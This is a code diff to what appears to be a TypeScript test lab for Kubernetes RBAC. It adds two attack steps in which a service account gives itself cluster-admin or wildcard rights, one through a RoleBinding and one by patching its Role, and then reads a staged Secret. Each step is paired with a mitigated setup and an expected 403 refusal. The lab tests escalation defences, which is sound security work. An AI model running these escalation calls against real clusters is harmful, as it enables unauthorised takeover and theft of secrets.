@@ -4,12 +4,14 @@ import * as x509 from "@peculiar/x509";
 import { stringAt } from "@redoubt/kube";
 import { ApiClient } from "../api-client.ts";
 import { type AttackLab, type LabRule, messageOf, rule, whoAmI } from "../attack-lab.ts";
-import { type AttackStep, type Outcome, type Scene, answered, victimOf } from "./attack-step.ts";
+import { type AttackStep, type Outcome, type Scene, answered, secretOf, victimOf } from "./attack-step.ts";
+import { secretNamed, valueOf } from "./secrets.ts";
 
 const RBAC = "rbac.authorization.k8s.io";
 const CERTIFICATES = "certificates.k8s.io";
 const REQUESTS = `/apis/${CERTIFICATES}/v1/certificatesigningrequests`;
 const KUBE_SYSTEM_SECRETS = "/api/v1/namespaces/kube-system/secrets";
+const EVERYTHING = { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] };
 const MANAGER = "system:kube-controller-manager";
 
 /** Whom the API server takes a client for. */
@@ -29,6 +31,12 @@ async function readsKubeSystem(client: ApiClient): Promise<Outcome> {
 async function afterwards(lab: AttackLab): Promise<Outcome> {
   await lab.until(async () => (await lab.attacker.get(KUBE_SYSTEM_SECRETS)).status === 200);
   return { got: "read" };
+}
+
+async function readsHere(lab: AttackLab): Promise<Outcome> {
+  const read = (): ReturnType<typeof lab.attacker.get> => lab.attacker.get(lab.path("secrets/loot"));
+  await lab.until(async () => (await read()).status === 200);
+  return { got: valueOf((await read()).body, "word") };
 }
 
 export const IDENTITY_STEPS: readonly AttackStep[] = [
@@ -99,6 +107,48 @@ export const IDENTITY_STEPS: readonly AttackStep[] = [
     refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
   },
   {
+    name: "bind-here",
+    kinds: ["bind-role"],
+    does: "binds cluster-admin to itself in its namespace and reads the Secrets there",
+    mitigation: "it may bind another ClusterRole",
+    setup: (mitigated) => ({
+      rights: [
+        rule("create", "rolebindings", RBAC),
+        rule("bind", "clusterroles", RBAC, [mitigated ? "view" : "cluster-admin"]),
+      ],
+    }),
+    stage: ({ lab }) => lab.make("secrets", secretNamed("loot")),
+    walk: ["holds-role", "bind-role", "all-rights", "use-power", "use-power"],
+    to: secretOf("loot"),
+    attempt: async ({ lab }) => {
+      const answer = await lab.attacker.post(lab.path("rolebindings", `${RBAC}/v1`), {
+        metadata: { name: "grab" },
+        roleRef: { apiGroup: RBAC, kind: "ClusterRole", name: "cluster-admin" },
+        subjects: [{ kind: "ServiceAccount", namespace: lab.namespace, name: "attacker" }],
+      });
+      return answer.status === 201 ? readsHere(lab) : { refused: messageOf(answer) };
+    },
+    gets: () => "open sesame",
+    refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
+  },
+  {
+    name: "escalate-here",
+    kinds: ["escalate-role"],
+    does: "adds every right to a Role that it holds and reads the Secrets of its namespace",
+    mitigation: "no right to escalate",
+    setup: (mitigated) => ({ rights: [rule(mitigated ? "get patch" : "get patch escalate", "roles", RBAC)] }),
+    stage: ({ lab }) => lab.make("secrets", secretNamed("loot")),
+    walk: ["holds-role", "escalate-role", "use-power", "use-power"],
+    to: secretOf("loot"),
+    attempt: async ({ lab }) => {
+      const path = lab.path(`roles/${lab.namespace}-attacker`, `${RBAC}/v1`);
+      const answer = await lab.attacker.send("PATCH", path, EVERYTHING, "application/merge-patch+json");
+      return answer.status === 200 ? readsHere(lab) : { refused: messageOf(answer) };
+    },
+    gets: () => "open sesame",
+    refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
+  },
+  {
     name: "escalate-role",
     kinds: ["escalate-role"],
     does: "adds every right to a ClusterRole that it holds and reads the Secrets of kube-system",
@@ -109,9 +159,8 @@ export const IDENTITY_STEPS: readonly AttackStep[] = [
     walk: ["holds-role", "escalate-role"],
     to: () => "cluster-admin",
     attempt: async ({ lab }) => {
-      const change = { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] };
       const path = `/apis/${RBAC}/v1/clusterroles/${lab.namespace}-attacker`;
-      const answer = await lab.attacker.send("PATCH", path, change, "application/merge-patch+json");
+      const answer = await lab.attacker.send("PATCH", path, EVERYTHING, "application/merge-patch+json");
       return answer.status === 200 ? afterwards(lab) : { refused: messageOf(answer) };
     },
     gets: () => "read",
